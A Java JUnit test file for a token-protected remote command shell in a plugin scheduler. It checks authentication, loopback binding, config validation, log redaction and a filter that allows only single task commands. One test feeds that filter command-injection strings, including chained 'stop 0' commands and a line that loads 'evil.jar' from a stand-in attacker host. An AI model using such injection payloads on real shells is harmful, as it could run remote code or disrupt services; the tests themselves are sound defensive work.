package org.pluginscheduler.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStreamWriter;
import java.io.PrintWriter;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RemoteShellTest {

    @TempDir
    Path dir;
    private RemoteShell shell;
    private final List<String> ran = new CopyOnWriteArrayList<>();

    @AfterEach
    void close() {
        if (shell != null) {
            shell.close();
        }
    }

    private RemoteShell start(boolean anyCommand) throws IOException {
        // failed authentications answered after 1–4 ms, not the default 200 ms doubling (RemoteShellHardeningTest)
        RemoteShell.Limits fast = new RemoteShell.Limits(2_000, 5_000, 10_000, 1, 4, 60_000);
        shell = new RemoteShell(new RemoteShell.Settings(InetAddress.getLoopbackAddress(), 0,
                dir.resolve("data/token"), anyCommand, 2, fast), (line, out) -> {
            ran.add(line);
            out.print("ran " + line + "\n");
            return line.contains("fail") ? 1 : 0;
        });
        return shell;
    }

    private String token() throws IOException {
        return Files.readString(dir.resolve("data/token")).trim();
    }

    /** @return everything the server sent */
    private List<String> exchange(String... lines) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), shell.port())) {
            PrintWriter out = new PrintWriter(new OutputStreamWriter(socket.getOutputStream(), StandardCharsets.UTF_8));
            for (String line : lines) {
                out.print(line + "\n");
            }
            out.flush();
            socket.shutdownOutput();
            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(),
                    StandardCharsets.UTF_8));
            List<String> reply = new ArrayList<>();
            for (String l = in.readLine(); l != null; l = in.readLine()) {
                reply.add(l);
            }
            return reply;
        }
    }

    @Test
    void theTokenIsGeneratedOnceWithOwnerOnlyPermissions() throws IOException {
        start(false);
        Path file = dir.resolve("data/token");
        assertEquals(64, token().length());
        assertEquals(PosixFilePermissions.fromString("rw-------"), Files.getPosixFilePermissions(file));
        String first = token();
        shell.close();
        start(false);
        assertEquals(first, token(), "an existing token is kept");
    }

    @Test
    void aLooseTokenFileIsTightened() throws IOException {
        Path file = dir.resolve("data/token");
        Files.createDirectories(file.getParent());
        Files.writeString(file, "0123456789abcdef0123456789abcdef0123");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        start(false);
        assertEquals(PosixFilePermissions.fromString("rw-------"), Files.getPosixFilePermissions(file));
    }

    @Test
    void aGoodTokenRunsOneCommandAndReportsItsExitCode() throws IOException {
        start(false);
        assertEquals(List.of("OK", "ran task:list", "%%TASKCTL-EXIT 0%%"), exchange("AUTH " + token(), "task:list"));
        assertEquals(List.of("OK", "ran task:trigger fail", "%%TASKCTL-EXIT 1%%"),
                exchange("AUTH " + token(), "task:trigger fail"));
    }

    @Test
    void aWrongTokenOrAMalformedConnectionIsRefusedAndRunsNothing() throws IOException {
        start(false);
        assertEquals(List.of("DENIED"), exchange("AUTH not-the-token", "task:list"));
        assertEquals(List.of("DENIED"), exchange("task:list"));
        assertEquals(List.of("DENIED"), exchange("AUTH"));
        assertTrue(ran.isEmpty());
    }

    @Test
    void byDefaultOnlyASingleTaskCommandIsAccepted() throws IOException {
        start(false);
        for (String line : List.of("lb", "stop 0", "task:list; stop 0", "task:list | grep x", "task:list $(stop 0)",
                "task:next \"$x\"", "task:next \"unclosed", "task:next 'a' ; stop 0", "task:next \"a\";stop 0",
                // Gogo skips comments, quotes in them too: a quote there must not hide what follows
                "task:list /* ' */ ; start http://attacker/evil.jar // '", "task:list // '; stop 0 '",
                "task:list # '; stop 0 '", "task:next \"%(x=1)\"", "task:next %(x=1)")) {
            List<String> reply = exchange("AUTH " + token(), line);
            assertEquals("%%TASKCTL-EXIT 2%%", reply.get(reply.size() - 1), line);
        }
        assertTrue(ran.isEmpty());
        shell.close();
        start(true);
        assertEquals(List.of("OK", "ran lb", "%%TASKCTL-EXIT 0%%"), exchange("AUTH " + token(), "lb"));
    }

    @Test
    void theLogShowsTaskCommandsWholeButNeverTheArgumentsOfOthers() {
        assertEquals("task:trigger sample:cleanup", RemoteShell.loggable("task:trigger sample:cleanup", true));
        assertEquals("web:hashpw (arguments not logged)", RemoteShell.loggable("web:hashpw hunter2", false));
        assertEquals("web:hashpw (arguments not logged)", RemoteShell.loggable("web:hashpw hunter2", true));
        assertEquals("task:list; (arguments not logged)", RemoteShell.loggable("task:list; web:hashpw hunter2", false));
        assertEquals("lb", RemoteShell.loggable("lb", false));
        assertEquals("task:enable (arguments not logged)", RemoteShell.loggable("task:enable x; web:hashpw hunter2",
                true), "accepted with allow.any.command, but not a single task:* command");
        assertEquals("task:list; (arguments not logged)", RemoteShell.loggable("task:list; web:hashpw hunter2", true));
    }

    /** Quotes are read as Gogo reads them: a multi-part RRULE previews through taskctl. */
    @Test
    void shellSyntaxInsideQuotesIsPartOfAnArgument() throws IOException {
        start(false);
        String rrule = "task:next \"rrule:FREQ=YEARLY;BYMONTH=3;BYDAY=SU;BYSETPOS=-1 start=2026-01-01T02:00\"";
        assertEquals(List.of("OK", "ran " + rrule, "%%TASKCTL-EXIT 0%%"), exchange("AUTH " + token(), rrule));
        String single = "task:next 'rrule:FREQ=DAILY;INTERVAL=2 $HOME (x)'";
        assertEquals(List.of("OK", "ran " + single, "%%TASKCTL-EXIT 0%%"), exchange("AUTH " + token(), single));
        assertTrue(RemoteShell.singleCommand("task:next \\; x"), "an escaped ; is literal");
        assertFalse(RemoteShell.singleCommand("task:next \"a\\\";stop 0"), "an escaped quote does not close");
    }

    /** A line over 8,192 characters is refused with a message and exit status 2, not a silent close (exit 3). */
    @Test
    void anOverlongCommandLineIsRefusedWithAMessage() throws IOException {
        start(false);
        String longLine = "task:next \"" + "x".repeat(9_000) + "\"";
        assertEquals(List.of("OK", "the command line is longer than 8192 characters", "%%TASKCTL-EXIT 2%%"),
                exchange("AUTH " + token(), longLine));
        assertEquals(List.of("DENIED"), exchange("AUTH " + "t".repeat(9_000)));
        assertTrue(ran.isEmpty());
    }

    @Test
    void nonLoopbackAddressesNeedExplicitPermission() {
        Map<String, Object> open = config("0.0.0.0", false);
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> RemoteShellComponent.settings(open));
        assertEquals("bind.address: 0.0.0.0 is not a loopback address; set allow.non.loopback=true to listen on it",
                e.getMessage());
        assertEquals("0.0.0.0", RemoteShellComponent.settings(config("0.0.0.0", true)).address().getHostAddress());
        assertTrue(RemoteShellComponent.settings(config("127.0.0.1", false)).address().isLoopbackAddress());
    }

    @Test
    void failuresShowTheCommandsOwnOneLineMessage() {
        Exception wrapped = new RuntimeException(new CommandException("task:trigger: unknown task 'x'"));
        assertEquals("task:trigger: unknown task 'x'", RemoteShellComponent.oneLine(wrapped, "task:trigger x"));
        assertEquals("error: boom", RemoteShellComponent.oneLine(new IllegalStateException("boom"), "task:list"));
        assertNull(new CommandException("m").getCause());
    }

    private static Map<String, Object> config(String address, boolean allow) {
        return Map.of("bind.address", address, "allow.non.loopback", String.valueOf(allow));
    }

    @Test
    void timeoutsAndThrottlingHaveDefaultsAndAreRead() {
        assertEquals(new RemoteShell.Limits(2_000, 5_000, 10_000, 200, 5_000, 60_000),
                RemoteShellComponent.settings(Map.of()).limits());
        assertEquals(new RemoteShell.Limits(200, 300, 400, 0, 0, 100), RemoteShellComponent.settings(Map.of(
                "read.timeout.ms", "200", "line.timeout.ms", 300, "idle.timeout.ms", 400L, "auth.failure.delay.ms", "0",
                "auth.failure.max.delay.ms", "0", "auth.failure.window.ms", "100")).limits());
    }

    @Test
    void badTimeoutsAndThrottlingNameFieldAndValue() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> RemoteShellComponent.settings(Map.of("read.timeout.ms", "0", "line.timeout.ms", "5s",
                        "idle.timeout.ms", "-1", "auth.failure.delay.ms", "60001", "auth.failure.window.ms", "99")));
        assertEquals("read.timeout.ms: '0' is not in 10–600000; line.timeout.ms: '5s' is not a whole number; "
                + "idle.timeout.ms: '-1' is not in 10–3600000; auth.failure.delay.ms: '60001' is not in 0–60000; "
                + "auth.failure.window.ms: '99' is not in 100–86400000", e.getMessage());
        assertEquals("auth.failure.max.delay.ms: 100 is less than auth.failure.delay.ms (200)",
                assertThrows(IllegalArgumentException.class, () -> RemoteShellComponent.settings(
                        Map.of("auth.failure.max.delay.ms", "100"))).getMessage());
    }

    /** Every attribute: a wrong type, an overflow, an out-of-range value; each named with its value. */
    @Test
    void badValuesNameFieldAndValue() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> RemoteShellComponent.settings(Map.of("enabled", "flase", "port", "99999999999",
                        "allow.non.loopback", "yes", "allow.any.command", "1", "max.connections", "abc",
                        "token.file", " ")));
        assertEquals("enabled: 'flase' is not true or false; port: '99999999999' is not in 1–65535; "
                + "allow.non.loopback: 'yes' is not true or false; token.file: must not be blank; "
                + "allow.any.command: '1' is not true or false; max.connections: 'abc' is not a whole number",
                e.getMessage());
        assertEquals("port: 0 is not in 1–65535", assertThrows(IllegalArgumentException.class,
                () -> RemoteShellComponent.settings(Map.of("port", 0))).getMessage());
        assertNull(RemoteShellComponent.settings(Map.of("enabled", "FALSE")));
        assertEquals(Map.of("prot", "port"), new org.pluginscheduler.internal.config.ConfigReader(
                Map.of("prot", "1", "service.pid", "x"), RemoteShellComponent.KEYS).unknownKeys());
    }
}
